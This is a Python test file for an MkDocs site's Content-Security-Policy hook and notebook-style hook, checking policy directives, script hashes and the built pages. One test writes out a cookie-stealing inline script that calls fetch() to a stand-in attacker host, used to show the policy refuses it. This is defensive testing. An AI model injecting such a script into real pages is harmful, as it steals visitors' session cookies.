"""The Content-Security-Policy hook (overrides/hooks/csp.py) and the notebook pages' styles
(overrides/hooks/notebooks.py): what the policy allows, on sample pages and on the built site.
What the browser does with it is tested by tests/test_budgets.py."""

from __future__ import annotations

import base64
import hashlib
import logging
import os
import re
from pathlib import Path
from types import SimpleNamespace

import pytest

from overrides.hooks import csp, notebooks

PAGE = """<!doctype html>
<html lang="en">
  <head>
    <meta charset="utf-8">
    <link rel="stylesheet" href="assets/site.css">
    <script>__md_scope=new URL(".",location)</script>
    <script id="__config" type="application/json">{"base": "."}</script>
    <script src="assets/bundle.js"></script>
  </head>
  <body><!-- <script>commented()</script> --><p>Text</p>
    <script type="module">import "./x.js"</script>
  </body>
</html>
"""


def _hash(text: str) -> str:
    return "'sha256-" + base64.b64encode(hashlib.sha256(text.encode()).digest()).decode() + "'"


def _directives(policy: str) -> dict[str, list[str]]:
    return {d.split()[0]: d.split()[1:] for d in policy.split("; ")}


def _meta_policy(html: str) -> str:
    found = re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', html)
    assert len(found) == 1, f"expected one policy tag, found {len(found)}"
    return found[0]


def test_policy_allows_own_origin_and_the_pages_inline_scripts_by_hash():
    d = _directives(csp.policy(PAGE))
    assert d["default-src"] == ["'self'"]
    assert sorted(d["script-src"]) == sorted(
        ["'self'", _hash('__md_scope=new URL(".",location)'), _hash('import "./x.js"')]
    ), d["script-src"]
    for name in ("style-src", "font-src", "connect-src", "base-uri", "form-action"):
        assert d[name] == ["'self'"], (name, d[name])
    assert d["img-src"] == ["'self'", "data:"] and d["object-src"] == ["'none'"]
    joined = " ".join(v for values in d.values() for v in values)
    assert "unsafe" not in joined and "*" not in joined and "http" not in joined, joined


def test_json_blocks_comments_and_external_scripts_get_no_hash():
    scripts = csp.inline_scripts(PAGE)
    assert scripts == ['__md_scope=new URL(".",location)', 'import "./x.js"'], scripts


def test_an_injected_inline_script_is_not_allowed():
    """Hostile case: a script that is not in the page as built has no hash in its policy, so
    the browser refuses it (tests/test_budgets.py shows the browser doing so)."""
    allowed = _directives(csp.policy(PAGE))["script-src"]
    injected = "fetch('https://attacker.invalid/?c=' + document.cookie)"
    assert _hash(injected) not in allowed
    # The same script inside the built page would be the page's own: hashed, as it must be.
    built = PAGE.replace("<p>Text</p>", f"<p>Text</p><script>{injected}</script>")
    assert _hash(injected) in _directives(csp.policy(built))["script-src"]


def test_inline_styles_are_hashed_and_attributes_reported():
    html = PAGE.replace("<p>Text</p>", '<style>p{color:red}</style><p style="x" onclick="y()">')
    assert _directives(csp.policy(html))["style-src"] == ["'self'", _hash("p{color:red}")]
    assert csp.refused_attributes(html) == ['style="x"', 'onclick="y()"']
    assert csp.refused_attributes(PAGE) == []
    # Code shown on a page is escaped text, not an attribute.
    assert csp.refused_attributes("<pre><code>&lt;p style=&quot;x&quot;&gt;</code></pre>") == []


def test_policy_tag_comes_first_in_head_after_the_charset():
    out = csp.add_policy(PAGE)
    head = out[out.index("<head>") + len("<head>"):]
    assert re.match(r'\s*<meta charset="utf-8"><meta http-equiv="Content-Security-Policy"', head)
    assert _meta_policy(out) == csp.policy(PAGE)
    with pytest.raises(ValueError, match="x.md: no <head>"):
        csp.add_policy("<p>no head</p>", "x.md")


def test_a_refused_attribute_is_a_build_warning(caplog):
    page = SimpleNamespace(file=SimpleNamespace(src_uri="x.md"))
    html = PAGE.replace("<p>Text</p>", '<p style="color:red">Text</p>')
    with caplog.at_level(logging.WARNING, logger="mkdocs.hooks.csp"):
        csp.on_post_page(html, page, None)
    assert any("x.md" in r.message and 'style="color:red"' in r.message for r in caplog.records)


def test_the_404_template_gets_a_policy_and_the_sitemap_none():
    assert "Content-Security-Policy" in csp.on_post_template(PAGE, "404.html", None)
    assert csp.on_post_template("<urlset/>", "sitemap.xml", None) == "<urlset/>"


def test_notebook_pages_lose_inline_css_and_empty_outputs():
    page = SimpleNamespace(file=SimpleNamespace(src_uri="t/n.ipynb"), toc=[], url="t/n/")
    html = (
        '<style type="text/css">.jupyter-wrapper{--x:1}</style>\n<style>.jp-Mermaid{}</style>'
        '<div class="highlight-ipynb hl-python"><pre>x</pre></div>'
        '<div class="jp-OutputArea-child">\n<div class="jp-OutputPrompt jp-OutputArea-prompt">'
        '</div>\n<div class="jp-RenderedHTMLCommon jp-RenderedHTML jp-OutputArea-output" '
        'data-mime-type="text/html" tabindex="0">\n<pre style="white-space:pre"></pre>\n</div>\n'
        '</div>\n<div class="jp-OutputArea-child"><div class="jp-OutputPrompt"></div>'
        '<div class="jp-RenderedText jp-OutputArea-output"><pre>kept</pre></div></div>'
    )
    out = notebooks.on_page_content(html, page, None, None)
    assert "<style" not in out and "white-space" not in out, out
    assert '<div class="highlight highlight-ipynb hl-python">' in out and "<pre>kept</pre>" in out
    posted = notebooks.on_post_page("<head><title>t</title></head>", page, None)
    assert posted == ('<head><title>t</title><link rel="stylesheet" '
                      'href="../../assets/notebook.css">\n</head>')
    md = SimpleNamespace(file=SimpleNamespace(src_uri="a.md"), toc=[], url="a/")
    assert notebooks.on_post_page("<head></head>", md, None) == "<head></head>"


@pytest.fixture(scope="module")
def built(request) -> Path:
    """The built site; RNN_SHAPES_SERVED_SITE=/path/to/site checks a site built apart."""
    folder = os.environ.get("RNN_SHAPES_SERVED_SITE")
    return Path(folder) if folder else request.getfixturevalue("site")


def test_every_built_page_carries_its_policy(built):
    """On the built site: one policy per HTML file, first in <head>, allowing exactly that
    file's inline scripts; no inline style, no style or handler attribute anywhere."""
    wrong = []
    for html_file in sorted(built.rglob("*.html")):
        rel = html_file.relative_to(built)
        html = html_file.read_text(encoding="utf-8")
        try:
            found = _meta_policy(html)
        except AssertionError as err:
            wrong.append(f"{rel}: {err}")
            continue
        unpolicied = html.replace(f'<meta http-equiv="Content-Security-Policy" content="{found}">',
                                  "")
        if found != csp.policy(unpolicied):
            wrong.append(f"{rel}: the policy does not match the page's inline scripts")
        if html.index("Content-Security-Policy") > html.index("<link"):
            wrong.append(f"{rel}: the policy comes after a stylesheet link")
        if csp.inline_styles(html) or csp.refused_attributes(html):
            wrong.append(f"{rel}: inline styles or attributes the policy refuses")
    assert not wrong, "\n".join(wrong)


def test_notebook_pages_link_their_small_stylesheet(built):
    for html_file in sorted((built / "tutorials").glob("*/index.html")):
        html = html_file.read_text(encoding="utf-8")
        rel = html_file.relative_to(built)
        assert 'href="../../assets/notebook.css"' in html, f"{rel}: notebook.css not linked"
        assert "jp-Notebook" in html and "<style" not in html, f"{rel}: inline CSS left"
        assert len(html.encode()) < 250_000, f"{rel}: {len(html.encode())} bytes of HTML"
    others = [p for p in built.rglob("*.html") if "tutorials" not in p.parts]
    linking = [str(p.relative_to(built)) for p in others if "notebook.css" in p.read_text("utf-8")]
    assert not linking, f"notebook.css linked from pages that are not notebooks: {linking}"
